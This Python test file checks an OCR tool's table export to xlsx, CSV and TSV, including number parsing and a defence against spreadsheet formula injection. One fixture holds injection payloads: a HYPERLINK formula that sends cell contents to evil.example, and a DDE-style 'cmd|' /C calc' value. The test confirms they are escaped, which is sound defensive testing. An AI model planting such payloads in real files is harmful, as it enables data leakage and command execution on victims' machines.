"""Tables out as spreadsheets (issue 28): .xlsx read back with openpyxl and CSV with the csv
module equal the JSON's table rows; a cell is a number only when it parses exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from ocr_pages import TABLE, ruled_table
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from desktop.cli import main
from desktop.core.ocr.models import OcrDocument, OcrLine, OcrResult, OcrTable
from desktop.core.ocr.rendered_pages import render_lines
from desktop.core.ocr.spreadsheet import cell_value, tsv_text, workbook_bytes


@pytest.fixture(scope="module")
def table_png(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("table") / "stock.png"
    ruled_table(TABLE).save(path)
    return path


def shown(cell: Cell) -> str:
    """A workbook cell as the text a spreadsheet shows for it (its number format's decimals)."""
    if cell.value is None:
        return ""
    if isinstance(cell.value, (int, float)) and "." in cell.number_format:  # 219.0 reads as 219
        decimals = len(cell.number_format.partition(".")[2])
        return f"{cell.value:.{decimals}f}"
    return str(cell.value)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("42", 42),
        ("-3", -3),
        ("12.50", 12.5),
        ("0.5", 0.5),
        ("0012", "0012"),  # a code: the zeros are part of it
        ("1,234.50", 1234.5),  # only one reading fits: a thousands comma, a decimal point
        ("1.234,50", 1234.5),
        ("1,234", "1,234"),  # a thousand, or one point two three four: nothing says which
        ("1,2,3", "1,2,3"),
        ("+5", "+5"),
        ("12 %", "12 %"),
        ("$3", "$3"),
        ("1e5", "1e5"),
        ("12345678901234567", "12345678901234567"),  # beyond a double's exact digits
        ("", None),
    ],
)
def test_a_cell_is_a_number_only_when_it_parses_exactly(text: str, value: object) -> None:
    assert cell_value(text)[0] == value
    assert type(cell_value(text)[0]) is type(value)


def test_cells_keep_their_text_formulas_stay_text_and_empty_cells_stay_empty() -> None:
    rows = (("Item", "Qty", "Note"), ("=1+1", "0012", ""), ("Lamp", "1", "12.50"))
    table = OcrTable(rows, (0, 0, 100, 100), ruled=False)
    page = OcrResult([], 100, 100, 0.0, tables=[table])
    book = load_workbook(io.BytesIO(workbook_bytes([OcrDocument("a.png", [page])])))
    sheet = book["Table 1"]
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "0012"
    assert sheet["C2"].value is None
    assert sheet["B3"].value == 1 and sheet["C3"].value == 12.5
    assert sheet["C3"].number_format == "0.00"  # shown as 12.50, as read


def test_amounts_with_thousands_separators_sum_decided_per_column() -> None:
    """A bank statement's balance column ("5,208.16") sums in the spreadsheet, beside a debit
    column of plain amounts; a European column ("5.208,16") does too; a column whose cells
    disagree ("1,234.50" and "1.234,50") and one where nothing decides ("1,234") stay text."""
    rows = (
        ("Date", "Description", "Debit", "Balance", "Saldo", "Mixed", "Count"),
        ("01/03", "Opening", "", "5,208.16", "5.208,16", "1,234.50", "1,234"),
        ("02/03", "Water bill", "523.20", "4,684.96", "4.684,96", "1.234,50", "2,500"),
        ("03/03", "Salary", "", "12,884.96", "523,20", "7", "12"),
    )
    table = OcrTable(rows, (0, 0, 100, 100), ruled=False)
    page = OcrResult([], 100, 100, 0.0, tables=[table])
    sheet = load_workbook(io.BytesIO(workbook_bytes([OcrDocument("a.png", [page])])))["Table 1"]
    balance = [sheet.cell(row=r, column=4).value for r in range(2, 5)]
    assert balance == [5208.16, 4684.96, 12884.96]
    assert sum(balance) == pytest.approx(22778.08)
    assert sheet["D2"].number_format == "#,##0.00"  # shown with its separators
    assert sheet["C3"].value == 523.2
    assert [sheet.cell(row=r, column=5).value for r in range(2, 5)] == [5208.16, 4684.96, 523.2]
    assert [sheet.cell(row=r, column=6).value for r in range(2, 5)] == ["1,234.50", "1.234,50", 7]
    assert [sheet.cell(row=r, column=7).value for r in range(2, 5)] == ["1,234", "2,500", 12]
    assert sheet["D1"].value == "Balance" and sheet["B3"].value == "Water bill"


HOSTILE = (
    ("Item", "Link", "Qty"),
    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(A1:A9)", "-3"),
    ("+5", "- bullet", "12.50"),
    ("\tcmd", "plain", "-2+3+cmd|' /C calc'!A0"),
)


def test_csv_and_tsv_cells_never_run_as_formulas_and_numbers_stay_numbers() -> None:
    """A hostile screenshot's table, read back with the csv module: every cell that starts
    with =, +, -, @ or a tab and is not a number has a leading apostrophe (a spreadsheet
    takes it as text and hides it); "-3" and "12.50" are written as read."""
    table = OcrTable(HOSTILE, (0, 0, 100, 100), ruled=True)
    expected = [
        ["Item", "Link", "Qty"],
        ['\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(A1:A9)", "-3"],
        ["'+5", "'- bullet", "12.50"],
        ["'\tcmd", "plain", "'-2+3+cmd|' /C calc'!A0"],
    ]
    assert list(csv.reader(io.StringIO(table.csv()))) == expected
    assert list(csv.reader(io.StringIO(tsv_text(HOSTILE)), dialect="excel-tab")) == expected
    # The .xlsx keeps the text as read, marked as text; JSON keeps it untouched.
    page = OcrResult([], 100, 100, 0.0, tables=[table])
    sheet = load_workbook(io.BytesIO(workbook_bytes([OcrDocument("a.png", [page])])))["Table 1"]
    assert sheet["A2"].value == HOSTILE[1][0] and sheet["A2"].data_type == "s"
    assert sheet["C2"].value == -3
    assert [cell["text"] for cell in table.cells()[1]] == list(HOSTILE[1])


def test_a_page_without_a_table_gives_one_sheet_of_its_lines() -> None:
    lines = [
        OcrLine("Hello there", (0, 0, 50, 10), 1.0, 0),
        OcrLine("0012", (0, 20, 9, 30), 1.0, 1),
    ]
    page = OcrResult(lines, 100, 100, 0.0)
    book = load_workbook(io.BytesIO(workbook_bytes([OcrDocument("a.png", [page])])))
    assert book.sheetnames == ["Text"]
    assert [row[0] for row in book["Text"].iter_rows(values_only=True)] == ["Hello there", "0012"]


def test_xlsx_and_csv_from_the_cli_equal_the_json_tables(
    table_png: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    for fmt in ("json", "xlsx", "csv"):
        assert main(["ocr", str(table_png), "--format", fmt, "--out", str(out)]) == 0
    [table] = json.loads((out / "stock.json").read_text())["pages"][0]["tables"]
    assert table["rows"] == TABLE
    sheet = load_workbook(out / "stock.xlsx")["Table 1"]
    assert [[shown(cell) for cell in row] for row in sheet.iter_rows()] == table["rows"]
    assert sheet["C2"].value == 49.9 and sheet["C2"].number_format == "0.00"
    with open(out / "stock.table1.csv", newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle)) == table["rows"]
    assert sorted(p.name for p in out.iterdir()) == [
        "stock.json",
        "stock.table1.csv",
        "stock.xlsx",
    ]
    capsys.readouterr()
    assert main(["ocr", str(table_png), "--format", "csv", "--no-service"]) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out.strip("\n")))) == TABLE


def test_csv_of_a_page_without_a_table_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "note.png"
    render_lines(["Just a sentence here"]).save(path)
    assert main(["ocr", str(path), "--format", "csv", "--no-service"]) == 0
    captured = capsys.readouterr()
    assert captured.out.strip() == ""
    assert "no table found in note.png" in captured.err


def test_a_workbook_goes_to_stdout_when_it_is_redirected(
    table_png: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["ocr", str(table_png), "--format", "xlsx", "--no-service"]) == 0
    book = load_workbook(io.BytesIO(capsysbinary.readouterr().out))
    assert book["Table 1"]["A2"].value == "Keyboard"


def test_combined_refuses_a_format_it_cannot_hold(
    table_png: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["ocr", str(table_png), "--combined", str(tmp_path / "all.pdf")]) == 2
    assert "--combined writes .txt, .md, .json, .xlsx" in capsys.readouterr().err
